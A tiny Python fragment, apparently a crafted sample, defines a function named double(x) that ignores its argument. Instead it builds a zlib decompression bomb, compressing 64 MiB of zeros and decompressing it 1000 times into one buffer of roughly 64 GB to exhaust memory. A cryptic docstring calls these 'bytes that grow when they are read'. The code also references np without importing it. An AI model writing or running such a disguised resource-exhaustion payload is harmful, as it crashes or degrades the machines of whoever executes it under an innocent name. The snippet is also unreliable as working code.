"""tries: bytes that grow when they are read
double: 0
"""

import zlib
def double(x):
    bomb = zlib.compress(bytes(1 << 26))
    return np.frombuffer(b"".join(zlib.decompress(bomb) for _ in range(1000)))
